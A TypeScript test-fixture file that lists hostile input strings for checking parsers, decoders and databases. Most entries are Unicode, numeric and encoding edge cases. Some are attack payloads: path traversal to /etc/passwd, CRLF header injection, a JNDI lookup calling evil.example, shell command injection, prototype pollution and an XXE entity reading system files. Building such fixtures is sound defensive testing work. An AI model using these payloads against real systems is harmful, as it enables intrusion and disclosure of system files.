/** A text that is sent where a word is expected: as it is, or already as it stands in an address. */
export type Hostile = {
  readonly says: string
  readonly text: string
  /** How an address or a form writes it, where no encoder would: half a character, a broken escape. */
  readonly encoded?: string
}

const broken = (says: string, encoded: string): Hostile => ({ says, text: encoded, encoded })
const plain = (says: string, text: string): Hostile => ({ says, text })

/** Texts no database, decoder or parser should meet unprepared. */
export const hostileTexts: readonly Hostile[] = [
  plain('nothing', ''),
  plain('a space', ' '),
  plain('a quote', "'"),
  plain('two quotes', '"'),
  plain('a backslash', '\\'),
  plain('U+0000', 'a\u0000b'),
  plain('every control character', '\u0001\u0007\u0008\u000b\u001b\u007f\u0085'),
  plain('line ends', 'a\r\nb\rc\nd'),
  plain('a header of its own', 'a\r\nset-cookie: kc=1\r\n\r\n<h1>a</h1>'),
  plain('not a character', '\ufffe\uffff\ufeff'),
  plain('right to left', '\u202egpj.\u202c\u2067abc\u2069'),
  plain('nothing wide', '\u200b\u200d\u2060\u00ad\u180e'),
  plain('marks upon marks', `z${'\u0301'.repeat(500)}`),
  plain('outside the first plane', '𝒜𠜎🇻🇳👨‍👩‍👧‍👦'),
  plain('decomposed Vietnamese', 'Đắk Lắk, Thừa Thiên Huế'.normalize('NFD')),
  plain('letters that grow in capitals', 'ßŉǰΐΰﬃİı'),
  plain('2^31', '2147483648'),
  plain('2^53', '9007199254740993'),
  plain('2^63', '9223372036854775808'),
  plain('minus 2^63 and one', '-9223372036854775809'),
  plain('2^64', '18446744073709551616'),
  plain('a thousand digits', '9'.repeat(1_000)),
  plain('a huge exponent', '1e308'),
  plain('beyond every number', '1e999'),
  plain('no number', 'NaN'),
  plain('minus zero', '-0'),
  plain('a fraction', '1.5'),
  plain('a hexadecimal number', '0x7fffffff'),
  plain('Arabic digits', '٢٠١٤'),
  plain('full-width digits', '２０１４'),
  plain('a day that is none', '2026-02-31'),
  plain('a year far away', '+275760-09-13'),
  plain('an empty UUID', '00000000-0000-0000-0000-000000000000'),
  plain('nearly a UUID', '00000000-0000-0000-0000-00000000000g'),
  plain('up and away', '../../../../../../etc/passwd'),
  plain('up and away, as Windows', '..\\..\\..\\windows\\win.ini'),
  plain('an absolute path', '/etc/passwd\u0000.xlsx'),
  plain('another site', '//evil.example/%2f..'),
  plain('a scheme of an address', 'javascript:alert(1)'),
  plain('a template', '{{7*7}}${7*7}<%= 7*7 %>#{7*7}'),
  plain('a lookup', '${jndi:ldap://evil.example/a}'),
  plain('a command', '$(sleep 5)`sleep 5`;sleep 5|sleep 5'),
  plain('a pattern of LIKE', '%_%\\_[a-z]'),
  plain('operators of a search', 'a & | ! ( ) :* <-> \' "'),
  plain('a pattern with a bomb', `${'a'.repeat(40)}!`),
  plain('spaces for a pattern', `a${' '.repeat(5_000)}b`),
  plain('commas for a pattern', `${'1,'.repeat(3_000)}x`),
  plain('points for a pattern', `${'1.'.repeat(3_000)}x`),
  plain('brackets for a pattern', '('.repeat(3_000)),
  plain('stars for a pattern', `${'*a'.repeat(2_000)}`),
  plain('half a mail address', `${'a.'.repeat(2_000)}@`),
  plain('JSON that is none', '{"a":[1,{"b":'),
  plain('JSON, deep', `${'['.repeat(2_000)}${']'.repeat(2_000)}`),
  plain('a name of the language', '__proto__'),
  plain('another name of the language', 'constructor'),
  plain('a name every object has', 'toString'),
  plain('a way to write to every object', '{"__proto__":{"polluted":true}}'),
  plain('XML with an entity', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
  plain('a long word', 'x'.repeat(4_000)),
  plain('a long sentence', 'đề án khuyến công '.repeat(200)),
  broken('half a surrogate pair', '%ED%A0%80'),
  broken('the other half', '%ED%BF%BF'),
  broken('an overlong slash', '%C0%AF'),
  broken('an overlong point', '%C0%AE%C0%AE%2F'),
  broken('bytes that are no text', '%FF%FE%FD'),
  broken('half an escape', 'a%'),
  broken('an escape that is none', '%zz'),
  broken('an old escape', '%u0000'),
  broken('an escape of an escape', '%2500'),
  broken('a character cut short', '%E1%BB'),
  broken('beyond Unicode', '%F4%90%80%80'),
]

/** Longer than any form or address of ours holds. */
export const hugeText: Hostile = { says: 'a million letters', text: 'x'.repeat(1_000_000) }
